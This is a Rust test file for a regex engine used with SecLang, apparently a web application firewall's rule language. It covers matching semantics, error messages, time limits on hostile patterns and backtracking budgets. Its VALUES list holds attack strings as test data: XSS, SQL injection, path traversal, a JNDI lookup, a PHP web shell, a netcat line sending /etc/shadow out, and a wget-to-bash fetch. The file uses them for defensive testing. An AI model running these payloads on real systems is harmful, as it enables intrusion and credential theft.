//! One compilation for each distinct text, and the meaning agreed for SecLang.

use std::sync::Arc;
use std::time::{Duration, Instant};

use super::backtrack::{Backtrack, Outcome};
use super::{Compiled, Patience, Pattern, Spent, compile, limits, parse};

#[test]
fn a_text_is_compiled_once() {
    let first = Pattern::shared("once [a-z]+").expect("a pattern");
    let second = Pattern::shared("once [a-z]+").expect("a pattern");
    let other = Pattern::shared("once [a-z]*").expect("a pattern");
    assert!(Arc::ptr_eq(&first.compiled, &second.compiled));
    assert!(!Arc::ptr_eq(&first.compiled, &other.compiled));
}

#[test]
fn bytes_dots_and_ends() {
    let rows: &[(&str, &[u8], bool)] = &[
        ("^a.b$", b"a\nb", true),
        ("b$", b"b\n", false),
        ("^.$", b"\xff", true),
        (r"^\x00$", b"\0", true),
        (r"a\x{bc}", b"a\xbc", true),
        (r"a{,2}", b"a{,2}", true),
        (r"{a}", b"{a}", true),
        (r"a{2}", b"aa", true),
        (r"^[[a]$", b"[", true),
        (r"^[a&&b]+$", b"a&b", true),
        (r"^[]a]+$", b"]a", true),
        (r"^[^]a]$", b"]", false),
        (r"^[\w-x]+$", b"a-x", true),
        (r"^[+--]$", b",", true),
        (r"\<\/\'\%", b"</'%", true),
        (r"^\v$", b"\x0b", true),
        (r"^\h$", b"\t", true),
        (r"^\e$", b"\x1b", true),
        (r"^\101$", b"A", true),
        (r"^[\b]$", b"\x08", true),
        (r"^[[:alpha:]_]+$", b"a_", true),
        (r"^[^a]$", b"A", true),
        (r"(?i)^[^a]$", b"A", false),
        (r"\Qa.b\E+", b"a.bb", true),
        (r"(?x) a b # c", b"ab", true),
        (r"a(?#note)b", b"ab", true),
        (r"(?i:A)b", b"ab", true),
        (r"(?i:A)B", b"ab", false),
        (r"a\Z", b"a\n", true),
        (r"^(?:|x)$", b"", true),
        (r"(?m)^b$", b"a\nb\nc", true),
        (r"(?-s)a.b", b"a\nb", false),
        (r"\bor\b", "日or本".as_bytes(), true),
        (r"^\w+$", "日".as_bytes(), false),
        ("(?i)ÀX", "Àx".as_bytes(), true),
    ];
    for (text, value, expected) in rows {
        assert_eq!(Pattern::shared(text).expect("a pattern").is_match(value), *expected, "{text}");
    }
}

#[test]
fn what_cannot_be_compiled_says_why() {
    let rows = [
        ("(", "unclosed group"),
        (")", "unopened group"),
        ("[a", "unclosed character class"),
        ("[b-a]", "out of order"),
        ("*a", "nothing to repeat"),
        ("a{3,2}", "ends before"),
        ("(?<=a+)b", "no fixed length"),
        ("(?R)", "unsupported group"),
        ("(*COMMIT)a", "verbs"),
        (r"\pL", "not supported"),
        ("(x{1000}){1000}", "size limit"),
        ("a{1}{1}{1}{1}{1}{1}{1}{1}{1}", "more than 8 repetitions"),
    ];
    for (text, reason) in rows {
        let error = Pattern::shared(text).expect_err(text);
        assert!(error.reason.contains(reason), "{text}: {}", error.reason);
    }
}

#[test]
fn hostile_texts_end() {
    let rows = [
        ("braces", "{".repeat(120_000), true),
        ("numbers", r"\x{".repeat(40_000), true),
        ("names in classes", format!("[{}]", "[:".repeat(60_000)), true),
        ("as many repetitions as allowed", "a{1}{1}{1}{1}{1}{1}{1}{1}".to_owned(), true),
        ("repetitions of repetitions", format!("a{}", "{1}".repeat(40_000)), false),
        ("counts of nothing", "(?=a)(?:(?:(?:){65535}){65535}){65535}".to_owned(), true),
        ("groups in groups", "(".repeat(1_000), false),
    ];
    for (name, text, is_pattern) in rows {
        let started = Instant::now();
        // Large ones may still be refused for their size, but at once.
        assert!(!is_pattern || parse::parse(text.as_bytes()).is_ok(), "{name}");
        assert!(is_pattern || parse::parse(text.as_bytes()).is_err(), "{name}");
        let _ = parse::parse(text.as_bytes()).map(|parsed| Backtrack::new(&parsed).is_ok());
        assert!(started.elapsed() < Duration::from_secs(5), "{name} took {:?}", started.elapsed());
    }
}

#[test]
fn patience_on_both_sides() {
    let pattern = Pattern::shared(r"(?:a+)+(?=b)\b(?!x)").expect("a pattern");
    let (long, patience) = (vec![b'a'; 5_000], Patience::default());
    let searches = limits::BACKTRACK_STEPS_TOTAL / limits::BACKTRACK_STEPS;
    for search in 1..=searches {
        assert_eq!(pattern.captures(&long, 0, 1, &patience), Err(Spent), "{search}");
        assert_eq!(pattern.captures(b"ab", 0, 1, &patience).is_ok(), search < searches, "{search}");
    }
    let linear = Pattern::shared("a+b").expect("a pattern");
    assert!(linear.captures(b"ab", 0, 1, &patience).is_ok(), "linear time needs none");
}

#[test]
fn momentary_patterns_on_both_sides() {
    let patience = Patience::default();
    for number in 0..limits::MOMENTARY_PATTERNS {
        let text = format!("a{number}");
        assert!(patience.momentary(text.as_bytes()).is_ok_and(|found| found.is_some()), "{text}");
    }
    assert!(patience.momentary(b"one more").is_err());
    let last = format!("a{}", limits::MOMENTARY_PATTERNS - 1);
    assert!(patience.momentary(last.as_bytes()).is_ok_and(|found| found.is_some()), "the last one is kept");
    let other = Patience::default();
    assert!(other.momentary(b"(").is_ok_and(|found| found.is_none()), "no pattern");
    for (length, is_pattern) in
        [(limits::MOMENTARY_PATTERN_BYTES, true), (limits::MOMENTARY_PATTERN_BYTES + 1, false)]
    {
        assert_eq!(other.momentary(&vec![b'a'; length]).is_ok(), is_pattern, "{length}");
    }
}

/// Values of many kinds, for any pattern.
const VALUES: &[&str] = &[
    "",
    "a",
    "hello world, this is plain text 12345",
    "/etc/passwd",
    "../../../../etc/passwd\0",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=prompt`1`>",
    "javascript:alert(String.fromCharCode(88))",
    "' or 1=1-- -",
    "1 union all select null,version(),concat(0x41,0x42) from information_schema.tables",
    "x'; drop table users; --",
    "sleep(5) or benchmark(1000,md5(1))",
    "; cat /etc/shadow | nc 10.0.0.1 4444",
    "$(wget http://example.test/x.sh -O- | bash)",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://example.test/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "http://user:pass@10.1.2.3:8080/path?query=1#fragment",
    "multipart/form-data; boundary=----WebKitFormBoundary; charset=utf-8",
    "GET /index.php?id=1&x=%27 HTTP/1.1\r\nSet-Cookie: a=b",
    "{\"a\":{\"$gt\":\"\"},\"b\":[1,2,3]}",
    "日本語のテキスト\u{a0}ﬀ",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "0x414243 0b1010 1e10 -1.5",
    "SELECT/**/pg_sleep(1)\nUNION\tSELECT",
];

/// Searches in linear time and by backtracking find the same; patterns of the fallback have but one way.
pub(in crate::engine) fn both_ways_agree(pattern: &[u8]) {
    let shown = String::from_utf8_lossy(pattern);
    let parsed = parse::parse(pattern).unwrap_or_else(|error| panic!("{shown}: {error}"));
    let compiled = compile(pattern).unwrap_or_else(|error| panic!("{shown}: {error}"));
    // A program past the limit of the fallback is one that it is never asked for.
    let (Compiled::Linear(regex), Ok(backtrack)) = (&compiled, Backtrack::new(&parsed)) else { return };
    // Words of the pattern itself come nearer to a match than any list does.
    let words = pattern.split(|byte| !byte.is_ascii_alphanumeric() && !b" _-".contains(byte));
    let own = words.filter(|word| word.len() > 3).take(20);
    for value in VALUES.iter().map(|value| value.as_bytes()).chain(own) {
        let linear = regex.captures(value).map(|captures| {
            captures.iter().map(|group| group.map(|group| (group.start(), group.end()))).collect::<Vec<_>>()
        });
        match (backtrack.search(value, 0, limits::BACKTRACK_STEPS).0, linear) {
            (Outcome::Spent, _) | (Outcome::Miss, None) => {}
            (Outcome::Hit(found), Some(linear)) => {
                // Groups inside repetitions that took nothing may keep other turns: the match itself is what counts.
                assert_eq!(found.first(), linear.first(), "{shown} on {:?}", String::from_utf8_lossy(value));
            }
            (found, linear) => {
                panic!("{shown} on {:?}: {found:?}, {linear:?}", String::from_utf8_lossy(value))
            }
        }
    }
}
